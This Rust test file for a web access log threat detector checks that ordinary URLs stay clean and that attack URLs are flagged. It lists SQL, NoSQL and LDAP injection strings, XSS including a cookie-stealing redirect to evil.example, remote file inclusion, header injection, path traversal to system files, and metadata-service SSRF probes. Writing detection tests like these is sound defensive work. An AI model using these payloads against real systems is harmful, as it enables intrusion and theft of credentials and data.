//! Tests of values that resemble an attack but that services take from their visitors, and of the
//! attacks.

use super::*;
use crate::event::{Medium, Referral};

#[test]
fn operators_of_a_database_are_ordinary_filters() {
    assert_clean(&[
        "/api/articles?filters[title][$contains]=x&populate=*",
        "/api/articles?filters%5Bid%5D%5B%24eq%5D=1",
        "/api/articles?filters[$or][0][date][$gte]=2026-01-01",
        "/api/articles?filters[user][id][$ne]=7&filters[email][$ne]=a@example.com",
        "/api/articles?filters[price][$gt]=&filters[price][$lte]=",
        "/messages?roomId[$in]=2&archived[$ne]=true&createdAt[$lt]=1479664146607",
        "/users?age[$gt]=18&passengers[$gt]=2",
        "/list?where={%22price%22:{%22$gt%22:10},%22image%22:{%22$ne%22:null}}",
        "/list?query={%22name%22:{%22$regex%22:%22%22,%22$options%22:%22i%22}}",
        "/list?query={price:{$gt:10}}",
        "/resource/a.json?$where=area%20%3E%20500&$limit=10",
    ]);
    assert_kind(
        "sql_injection",
        &[
            "/?user[$ne]=x&pass[$ne]=y",
            "/?login[password][$regex]=^a.*",
            "/?username[$nin][]=admin",
            "/?id[$ne]=",
            "/?id=[$ne]=1",
            "/?id=[$lte]5",
            "/?title[$regex]=.*",
            "/?id={%22$gt%22:%22%22}",
            "/?user={%22$ne%22:null}",
            "/?a={%22username%22:{%22$gt%22:%22%22},%22password%22:{%22$ne%22:1}}",
            "/?a={%22$where%22:%221==1%22}",
            "/?a[$where]=1",
            "/?a='},%20$where:%20'1==1",
            "/?id=1{%20$ne:%201%20}",
        ],
    );
}

#[test]
fn a_number_and_a_quote_are_a_length() {
    assert_clean(&[
        "/shop/?filter_size=32%22",
        "/catalogsearch/result/?q=32%22",
        "/tv?screen[]=55%22&screen[]=65%22",
        "/wheels?rim=17%22",
        "/sofas?length=120%22&width=60%22",
        "/people?height=5%27",
        "/tv?zoll=65''",
        "/tv?gr%C3%B6%C3%9Fe=65%27",
        "/suggest?term=%27",
        "/suggest?search_text=%27",
        "/suggest?q=%22",
    ]);
    assert_kind(
        "sql_injection",
        &[
            "/?id=1'",
            "/?id=-1'",
            "/?id=1%22",
            "/?cat_id=1%22",
            "/?productid[]=1%22",
            "/?artist=1'",
            "/?x='",
            "/?size=32%22+or+%221%22=%221",
        ],
    );
}

#[test]
fn names_of_parameters_are_not_scripts() {
    assert_clean(&[
        "/alerts?alert.id=5&alert.state=open",
        "/docs?document.id=5&document.type=pdf",
        "/rum?window.innerWidth=1200&document.referrer=https://example.com/",
        "/list?top[]=5&self[]=1",
        "/list?a=1&filter[location.city]=Berlin",
        "/list?sort=document.date&order=asc",
        "/form?formaction=save&srcdoc=1",
        "/f1?constructor=ferrari&team[constructor]=a",
    ]);
    assert_kind(
        "xss",
        &[
            "/?q=';document.location='//evil.example'",
            "/?q=document.location='//evil.example/'%2Bdocument.cookie",
            "/?q=a%22+formaction=javascript:alert(1)",
            "/?q=<iframe/srcdoc=x>",
            "/?a=1&q=top['al'%2B'ert'](1)",
        ],
    );
}

#[test]
fn services_take_queries_from_their_visitors() {
    assert_clean(&[
        "/a.json?$where=date%20between%20'2026-01-01'%20and%20'2026-02-01'",
        "/a.json?$select=a,count(*)&$group=a",
        "/a.json?$query=SELECT%20a,%20count(*)%20GROUP%20BY%20a",
        "/sparql?query=SELECT%20*%20WHERE%20{%20?s%20?p%20?o%20}%20LIMIT%2010",
        "/sparql?query=PREFIX+a:+<http://example.com/>+SELECT+(COUNT(*)+AS+?c)+WHERE+{?s+a+?o}",
        "/query?q=SELECT%20mean(%22v%22)%20FROM%20%22cpu%22%20WHERE%20time%20%3E%20now()%20-%201h",
        "/services/data/v58.0/query/?q=SELECT+Id,Name+FROM+Account+WHERE+Name='x'",
        "/sql.php?sql_query=SELECT%20*%20FROM%20%60x%60%20WHERE%201;",
    ]);
    assert_kind(
        "sql_injection",
        &[
            "/?q=1'+union+select+1--",
            "/?q=select+sleep(5)",
            "/?query=select+*+from+a;drop+table+a",
            "/?id=select+*+from+users",
            "/?sql=x'+or+'1'='1",
            "/?$where=a='+or+1=1--",
        ],
    );
}

#[test]
fn steps_to_a_part_of_a_page_are_a_link() {
    assert_clean(&[
        "/thumb.php?src=../../images/x.jpg",
        "/viewer.html?file=..%2F..%2Ffiles%2Freport%20(1).pdf#page=2",
        "/frames?page=../../home.htm",
        "/../../css/x.css",
        "/a/../../../b.html",
        "/wait../more",
        "/redirect/..%2fa",
    ]);
    assert_kind(
        "path_traversal",
        &[
            "/?f=../../../../x.jpg",
            "/?f=../../config.php",
            "/?f=../../etc/x",
            "/?f=%2e%2e/%2e%2e/x.jpg",
            "/?f=..\\..\\x.jpg",
            "/?f=../../x%00.jpg",
            "/?f=../../x.php/.jpg/..",
            "/../../../../a/b.html",
            "/webmail/..%2f..%2fconf",
            "/images../x",
            "/static../.x/a",
        ],
    );
}

#[test]
fn a_shared_link_is_not_included_as_a_file() {
    assert_clean(&[
        "/share?u=https://example.com/page.php?",
        "/screenshot?url=https://example.com/index.html?",
        "/login?redirect_uri=https://example.com/index.html?",
        "/beacon?page=https://example.com/index.php",
        "/view?file=https://example.com/notes.txt",
    ]);
    assert_kind(
        "path_traversal",
        &[
            "/?page=http://evil.example/x.php?",
            "/?url=http://evil.example/x.txt?",
            "/?page=http://evil.example/x.txt",
            "/?template=http%253A%252F%252Fevil.example%252Fa.php",
        ],
    );
}

#[test]
fn absolute_paths_of_a_system_are_found() {
    assert_clean(&[
        "/upload?path=C:\\Users\\ada\\x.pdf",
        "/upload?path=c:/projects/a.txt",
        "/man?location=/usr/share/man/man1/ls.1.gz",
        "/thumb?src=/var/www/example/a.jpg",
        "/files?path=/root/shared",
        "/etc/designs/site/a.css",
        "/books?next=/boot/1",
        "/search?q=/etc/hosts+file+location",
        "/search?q=/usr/local/bin",
    ]);
    assert_kind(
        "path_traversal",
        &[
            "/?f=c:/windows/x",
            "/?f=C:\\xampp\\apache\\conf\\httpd.conf",
            "/?f=D:%5Cinetpub%5Cx",
            "/?f=/c:/Users/Administrator/NTUser.dat",
            "/?f=%25SYSTEMROOT%25/repair/SAM",
            "/?f=/usr/local/apache2/conf/httpd.conf",
            "/?f=/var/lib/php5/session/sess_1",
            "/?f=/root/anaconda-ks.cfg",
            "/?f=/tmp/sess_abc",
            "/etc/hostname",
            "/?a={%22f%22:%22/etc/ab%22}",
            "/?f=Li4vLi4vZXRj",
            "/?f=L2V0Yy9ob3N0cw==",
            "/?u=http://[::ffff:a9fe:a9fe]/latest",
            "/?u=http://0xA9FEA9FE/latest",
        ],
    );
}

#[test]
fn headers_and_filters_are_found() {
    assert_kind(
        "xss",
        &[
            "/%0d%0aSet-Cookie:x=1",
            "/?u=%0aset-cookie:x=1",
            "/%E5%98%8A%E5%98%8DSet-Cookie:x=1",
            "/%0d%0aLocation:%20//evil.example",
            "/?u=%0d%0aContent-Type:%20text/html",
        ],
    );
    assert_kind(
        "sql_injection",
        &["/?user=*)(uid=*))(|(uid=*", "/?user=admin)(|(password=*))"],
    );
    assert_clean(&[
        "/?q=set-cookie:",
        "/docs/content-type:",
        "/?body=Meeting%0d%0aLocation:%20https://example.com/room",
        "/?filter=(%26(a=1)(|(b=2)(c=3)))",
        "/?filter=(|(uid=a)(cn=b))",
    ]);
}

#[test]
fn developers_search_for_elements_paths_and_methods() {
    assert_clean(&[
        "/?q=html+<script>+tag",
        "/?q=how+to+close+an+<iframe>",
        "/?q=Thread.sleep(1000)",
        "/?q=time.sleep(1)",
        "/?q=/bin/sh+vs+/bin/bash",
        "/?q=docker+run+-it+ubuntu+/bin/bash",
    ]);
    assert_kind("xss", &["/?q=<script>", "/?q=a+<script>x</script>"]);
    assert_kind("path_traversal", &["/?q=/etc/passwd"]);
    assert_kind("command_injection", &["/?q=cat+/bin/bash"]);
}

#[test]
fn a_page_may_ask_for_the_settings_of_its_program() {
    let threats = |target: &'static str, medium: Option<Medium>| {
        let mut event = AccessEvent::default();
        event.url.original = Some(target.into());
        event.referral = medium.map(|medium| {
            std::sync::Arc::new(Referral {
                medium,
                name: None,
                registered_domain: None,
            })
        });
        ThreatFinder::new().find(&event)
    };
    for (target, medium, is_clean) in [
        ("/appsettings.json", Some(Medium::Internal), true),
        (
            "/app/appsettings.Production.json",
            Some(Medium::Internal),
            true,
        ),
        ("/appsettings.json", None, false),
        ("/appsettings.json", Some(Medium::Other), false),
        ("/.git/appsettings.json", Some(Medium::Internal), false),
        ("/appsettings.json?a=../../b", Some(Medium::Internal), false),
        ("/appsettings.json.bak", Some(Medium::Internal), false),
        ("/web.config", Some(Medium::Internal), false),
    ] {
        assert_eq!(threats(target, medium).is_empty(), is_clean, "{target}");
    }
}
